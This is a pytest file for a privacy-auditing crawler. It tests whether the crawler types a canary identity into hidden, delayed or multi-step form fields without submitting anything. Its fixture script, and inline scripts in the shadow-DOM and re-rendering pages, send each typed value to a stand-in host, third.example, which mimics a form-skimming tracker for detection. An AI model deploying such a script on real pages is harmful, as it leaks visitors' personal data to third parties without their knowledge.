"""Every field that a visitor could come to type into is typed into, or said: members of each kind, each on a page of its own."""

from __future__ import annotations

from urllib.parse import unquote_plus, urlsplit

import pytest

from auditor.canary import make_identity
from auditor.canary.forms import national_digits
from auditor.demo.web import LocalWeb, html, text
from auditor.evidence import Visit
from tests.crawl.audited import Crawled, crawl_web

pytestmark = pytest.mark.browser
IDENTITY = make_identity()

TELL = """<script>
addEventListener('change', e => { const t = e.composedPath()[0]; if (t.value !== undefined && !/radio|checkbox|select/.test(t.type)) new Image().src = 'https://third.example/changed?' + new URLSearchParams({page: location.pathname, name: t.name || t.id, value: t.value}); }, true);
addEventListener('submit', () => { new Image().src = 'https://third.example/submitted?' + location.pathname; }, true);
addEventListener('click', e => { const b = e.target.closest?.('button,a,[role=button]'); if (b) new Image().src = 'https://third.example/pressed?' + new URLSearchParams({page: location.pathname, label: b.textContent}); }, true);
</script>"""
MAIL = "<input type=email name=email aria-label=E-mail>"
STEP = f"<div id=two hidden>{MAIL}<input name=phone type=tel></div>"
BOTH = {"email", "phone"}
NAME = "<input name=first_name>"

TYPED: dict[str, tuple[str, set[str]]] = {
    # a step that a button shows
    "next": (f'<form action=/j method=post>{NAME}<button type=button onclick="two.hidden=false">Next</button>{STEP}</form>', BOTH),
    "next-late": (f'<form action=/j>{NAME}<button type=button onclick="setTimeout(() => two.hidden=false, 200)">Weiter</button>{STEP}</form>', BOTH),
    "next-made": (f"<form action=/j>{NAME}<button type=button onclick=\"this.insertAdjacentHTML('afterend', '{MAIL}')\">Continuer</button></form>", {"email"}),
    "next-valid": (f"""<form action=/j>{NAME}<button type=button onclick="if (this.form.first_name.value) two.hidden=false">Continue</button>{STEP}</form>""", BOTH),
    "next-arrow": (f'<form action=/j>{NAME}<span role=button tabindex=0 onclick="two.hidden=false">→</span>{STEP}</form>', BOTH),
    "three-steps": (
        f"""<form action=/j><div id=a>{NAME}<button type=button onclick="a.hidden=true;b.hidden=false">Next</button></div>
        <div id=b hidden><input name=city><button type=button onclick="b.hidden=true;c.hidden=false">Next</button></div><div id=c hidden>{MAIL}<button>Send</button></div></form>""",
        {"first_name", "city", "email"},
    ),
    "slider": (
        f"""<form action=/j style="width:400px;overflow:hidden"><div id=s style="display:flex;width:800px;transition:transform .2s"><div style="width:400px">{NAME}<button type=button onclick="s.style.transform='translateX(-400px)'">Next</button></div>
        <div style="width:400px">{MAIL}<input name=phone></div></div></form>""",
        BOTH,
    ),
    # a box, a list
    "radio": (f'<form action=/j>{NAME}<label><input type=radio name=how value=m checked onchange="two.hidden=true">By mail</label><label><input type=radio name=how onchange="two.hidden=false">By telephone</label>{STEP}</form>', BOTH),
    "box": (f'<form action=/j>{NAME}<label><input type=checkbox onchange="two.hidden=!this.checked">Another address</label>{STEP}</form>', BOTH),
    "styled-box": (f'<form action=/j>{NAME}<input type=checkbox id=c style="position:absolute;opacity:0;width:1px;height:1px" onchange="two.hidden=!this.checked"><label for=c>Another address</label>{STEP}</form>', BOTH),
    "list": (f"<form action=/j>{NAME}<select name=topic onchange=\"two.hidden=this.value!='c'\"><option>a<option>b<option>c</select>{STEP}</form>", BOTH),
    # not yet to be typed into
    "readonly-focus": ("<form action=/j><input type=email name=email readonly onfocus=\"this.removeAttribute('readonly')\"></form>", {"email"}),
    "readonly-click": ('<form action=/j><input type=email name=email readonly onclick="this.readOnly=false"></form>', {"email"}),
    "readonly-load": ("<form action=/j><input type=email name=email readonly><script>setTimeout(() => document.querySelector('input').readOnly=false, 0)</script></form>", {"email"}),
    "disabled-first": (f"<form action=/j>{NAME}<input type=email name=email disabled><script>document.querySelector('input').oninput=()=>document.querySelector('[name=email]').disabled=false</script></form>", {"email"}),
    "disabled-fieldset": (f'<form action=/j><label><input type=checkbox onchange="f.disabled=!this.checked">I am new here</label><fieldset id=f disabled>{MAIL}</fieldset></form>', {"email"}),
    # holds something
    "code": ("<form action=/j><input type=tel name=phone value='+44'></form>", {"phone"}),
    "code-kept": ("<form action=/j><input type=tel name=phone value='+44 '><script>const p=document.querySelector('input');p.oninput=()=>{if(!p.value.startsWith('+44 '))p.value='+44 '}</script></form>", {"phone"}),
    "other-code": ("<form action=/j><input type=tel name=phone value='+49'></form>", {"phone"}),
    "placeholder": ("<form action=/j><input name=email value='Your e-mail' onfocus=\"if(this.value=='Your e-mail')this.value=''\"></form>", {"email"}),
    "remembered": ("<form action=/j><input name=email value='somebody@shop.example'></form>", {"email"}),
    # opened
    "dialog": (f'<button onclick="d.showModal()">Contact us</button><dialog id=d><form action=/j>{MAIL}</form></dialog>', {"email"}),
    "popover": (f"<button popovertarget=d>Say hello</button><div popover id=d><form action=/j>{MAIL}</form></div>", {"email"}),
    "details": (f"<details><summary>Ask something</summary><form action=/j>{MAIL}</form></details>", {"email"}),
    "drawer": (f"<button aria-controls=d aria-expanded=false onclick=\"d.style.transform='none'\">Open</button><div id=d style=\"position:fixed;left:0;transform:translateX(-100%)\"><form action=/j>{MAIL}<input name=phone></form></div>", BOTH),
    "drawer-unsaid": (f"<button onclick=\"d.style.display='block'\">✉</button><div id=d style=display:none><form action=/j>{MAIL}<input name=phone></form></div>", BOTH),
    "lazy-dialog": (f"<button aria-haspopup=dialog onclick=\"document.body.insertAdjacentHTML('beforeend', '<div role=dialog>{MAIL}</div>')\">Get a quote</button>", {"email"}),
    "two-dialogs": (f'<button onclick="d.showModal()">Sign in</button><button onclick="e.showModal()">Contact</button><dialog id=d><form action=/j>{MAIL}</form></dialog><dialog id=e><form action=/k><input name=phone></form></dialog>', BOTH),
    "tab": (f'<div role=tablist><button role=tab aria-controls=p1>Log in</button><button role=tab aria-controls=p2 onclick="p2.hidden=false">New here</button></div><div id=p1>x</div><div id=p2 hidden>{MAIL}<input name=phone></div>', BOTH),
    "hover": (f"<style>#d{{display:none}}#h:hover #d{{display:block}}</style><div id=h>Account<div id=d><form action=/j>{MAIL}<input name=phone></form></div></div>", BOTH),
    "box-outside": (f"<style>#t{{position:absolute;left:-99px}}#d{{display:none}}#t:checked~#d{{display:block}}</style><input type=checkbox id=t><label for=t>Newsletter</label><div id=d><form action=/j>{MAIL}<input name=phone></form></div>", BOTH),
    "same-address": (f'<form action=/j>{NAME}<label><input type=checkbox checked onchange="two.hidden=this.checked">The same address</label>{STEP}</form>', BOTH),
    "fade": (f"<style>#d{{opacity:0;pointer-events:none;transition:opacity .2s}}#d.on{{opacity:1;pointer-events:auto}}</style><a href=# onclick=\"d.classList.add('on');return false\">Sign up</a><div id=d><form action=/j>{MAIL}<button>Go</button></form></div>", {"email"}),
    # outside of forms, in other trees
    "loose": (MAIL, {"email"}),
    "editable": ("<div contenteditable id=email aria-label='Your e-mail'></div>", set()),
    "shadow": ("<x-field name=email label=E-mail></x-field><script>customElements.define('x-field', class extends HTMLElement { constructor() { super(); this.attachShadow({mode:'open'}).innerHTML='<div><input></div>'; this.shadowRoot.addEventListener('change', e => new Image().src='https://third.example/changed?'+new URLSearchParams({page: location.pathname, name: 'email', value: e.target.value})) } })</script>", {"email"}),
    "frame": (f'<iframe srcdoc="{TELL.replace(chr(34), "&quot;")}<form>{MAIL}</form>"></iframe>', {"email"}),
    "cell": ("<form><table><tr><td>E-mail</td><td><input id=f1></td></tr></table></form>", {"f1"}),
    # later
    "delay": (f"<div id=d></div><script>setTimeout(() => d.innerHTML='<form action=/j>{MAIL}</form>', 5000)</script>", {"email"}),
    "popup": (f"<div id=d style=display:none><form action=/j>{MAIL}<button>Join</button></form></div><script>setTimeout(() => d.style.display='block', 7000)</script>", {"email"}),
    "scroll": (f"<div style=height:3000px></div><div id=d></div><script>new IntersectionObserver((es, o) => es.some(e => e.isIntersecting) && (o.disconnect(), d.innerHTML='<form>{MAIL}</form>')).observe(d)</script>", {"email"}),
    # resists
    "mask": ("<form><input type=tel name=phone><script>const p=document.querySelector('input');p.oninput=()=>{const d=p.value.replace(/\\D/g,'').slice(0,10);p.value=d.length>6?`(${d.slice(0,3)}) ${d.slice(3,6)}-${d.slice(6)}`:d}</script></form>", {"phone"}),
    "drawn-anew": (f"<form><span id=s>{MAIL}</span><script>s.oninput=()=>{{const v=s.firstChild.value;s.innerHTML=`{MAIL}`;s.firstChild.value=v;s.firstChild.onchange=e=>0}}; addEventListener('focusout', e => {{ if (e.target.value) new Image().src='https://third.example/changed?'+new URLSearchParams({{page: location.pathname, name: 'email', value: e.target.value}}) }})</script></form>", {"email"}),
    "emptied-once": (f"<form>{MAIL}<script>const m=document.querySelector('input');m.addEventListener('change',()=>{{m.value=''}},{{once:true}})</script></form>", {"email"}),
    "boxes": ("<form><fieldset><legend>Phone</legend><input name=p1 maxlength=3><input name=p2 maxlength=3><input name=p3 maxlength=4></fieldset></form>", {"p1", "p2", "p3"}),
    "boxes-that-lead-on": ('<form>Phone <input name=tel1 maxlength=5 oninput="if(this.value.length==5)this.form.tel2.focus()"><input name=tel2 maxlength=6></form>', {"tel1", "tel2"}),
    "birth": ("<form><input name=name><fieldset><legend>Date of birth</legend><label>Day<input name=d maxlength=2></label><label>Month<input name=m maxlength=2></label><label>Year<input name=y maxlength=4></label></fieldset></form>", {"d", "m", "y"}),
    "birth-date": ("<form><input name=name><input type=date name=birthday></form>", {"birthday"}),
    "password": (f"<form>{MAIL}<input type=password name=password></form>", {"password"}),
    "completes": (f"<form><input name=city list=l><datalist id=l><option>London</datalist>{MAIL}</form>", {"city", "email"}),
}  # fmt: skip

SAID: dict[str, tuple[str, str]] = {
    "submit-only": (f'<form action=/j method=post>{NAME}<button onclick="two.hidden=false;return false">Next</button>{STEP}</form>', "the form (/j): the field 'email' could not be typed into: it is hidden, and what may show it also submits, or is called as something that nobody should press"),
    "pay": (f'<form action=/j>{NAME}<button type=button onclick="two.hidden=false">Continue to payment</button>{STEP}</form>', "it is hidden, and what may show it also submits"),
    "never-shown": (f"<div style=display:none><form action=/j>{MAIL}<button>Join</button></form></div>", "it is hidden, and nothing that was pressed showed it"),
    "readonly": ("<form action=/j><input type=email name=email readonly></form>", "it is read-only, also when it has the focus"),
    "disabled": ("<form action=/j><input type=email name=email disabled></form>", "it is disabled, and nothing that was done enabled it"),
    "emptied": (f"<form action=/j>{MAIL}<script>document.querySelector('input').addEventListener('blur',e=>e.target.value='')</script></form>", "what was typed did not stay in it"),
    "short": ("<form action=/j><input name=first_name maxlength=5></form>", "it takes 5 characters, too few to be recognised"),
}  # fmt: skip

NOTHING: dict[str, str] = {
    "search": "<form action=/s><input name=q type=search><button>Search</button></form>",
    "coupon": "<form action=/c><input name=coupon><input name=quantity type=number><button>Apply</button></form>",
    "trap": f'<form action=/j>{MAIL}<div style=display:none><input name=fax_phone tabindex=-1 autocomplete=off></div><input name=address style="position:absolute;left:-9999px"><button>Join</button></form>',
    "trap-plain": f"<form action=/j>{MAIL}<input name=phone style=display:none><button>Join</button></form>",
    "doubled": f"<form action=/j>{MAIL}<button>Join</button></form><div style=display:none><form action=/j>{MAIL}<button>Join</button></form></div>",
    "account": "<form action=/j><input name=email readonly value=me@shop.example><input name=username disabled value=me></form>",
    "menu": '<button aria-expanded=false aria-controls=m onclick="m.hidden=!m.hidden">Menu</button><ul id=m hidden><li>a</ul>',
}
NEVER_PRESSED = "Delete account|Pay now|Subscribe|Log out|I agree|Order|Send"


@pytest.fixture(scope="module")
def crawled(browsers) -> Crawled:
    web = LocalWeb()
    web.route("*", "/*", text("fine").adding(("Access-Control-Allow-Origin", "*")))
    pages = {**{n: b for n, (b, _) in (TYPED | SAID).items()}, **NOTHING}
    harmful = "".join(
        f'<button type=button onclick="two.hidden=false">{label}</button>' for label in NEVER_PRESSED.split("|")
    )
    pages["harmful"] = f"<form action=/j>{NAME}{harmful}{STEP}</form>"
    pages["leads-away"] = (
        f"<button onclick=\"history.pushState(0, '', '/other')\">Contact</button><button onclick=\"location='/gone'\">Register</button>{MAIL}"
    )
    for name, body in pages.items():
        web.route("shop.example", f"/{name}", html(f"<title>t</title>{TELL}{body}"))
    return crawl_web(web, browsers, *(f"/{n}" for n in pages), identity=IDENTITY, per_template=100)


def told(crawled: Crawled, page: str) -> dict[str, str]:
    """What the third party heard last of each field of a page."""
    queries = [urlsplit(h.url).query for h in crawled.hits if urlsplit(h.url).path == "/changed"]
    pairs = [dict(p.split("=", 1) for p in q.split("&")) for q in queries]
    return {
        p["name"]: unquote_plus(p["value"])
        for p in pairs
        if unquote_plus(p["page"]) == ("srcdoc" if page == "frame" else f"/{page}")
    }


def blind(visit: Visit) -> list[str]:
    return [b.reason for b in visit.blind]


@pytest.mark.parametrize("page", TYPED)
def test_typed_into(crawled, page):
    visit = crawled.visit(f"/{page}")
    _, names = TYPED[page]
    heard = told(crawled, page)
    assert names <= heard.keys()
    assert all(heard[n] for n in names)
    assert {f.name for x in visit.fillings for f in x.fields} >= names
    assert blind(visit) == []


def test_a_phone_number_with_a_code_before_it_is_whole(crawled):
    for page in ("code", "code-kept", "other-code", "mask"):
        digits = "".join(c for c in told(crawled, page)["phone"] if c.isdigit())
        assert digits in (f"44{national_digits(IDENTITY)}", national_digits(IDENTITY)), page


@pytest.mark.parametrize("page", SAID)
def test_said(crawled, page):
    reasons = blind(crawled.visit(f"/{page}"))
    assert any(SAID[page][1] in r for r in reasons), reasons


@pytest.mark.parametrize("page", NOTHING)
def test_nothing_to_say(crawled, page):
    assert blind(crawled.visit(f"/{page}")) == []


def test_what_is_called_as_something_harmful_is_not_pressed(crawled):
    pressed = [unquote_plus(urlsplit(h.url).query) for h in crawled.hits if urlsplit(h.url).path == "/pressed"]
    assert not [p for p in pressed if "page=/harmful" in p or "payment" in p]
    assert any("it is hidden, and what may show it also submits" in r for r in blind(crawled.visit("/harmful")))


def test_nothing_is_submitted(crawled):
    assert not [h for h in crawled.hits if urlsplit(h.url).path in ("/submitted", "/j", "/k", "/s", "/c")]


def test_a_button_that_leads_away_does_not(crawled):
    visit = crawled.visit("/leads-away")
    assert visit.final_url == "https://shop.example/leads-away"
    assert not [h for h in crawled.hits if urlsplit(h.url).path == "/gone"]
    assert told(crawled, "leads-away")["email"]
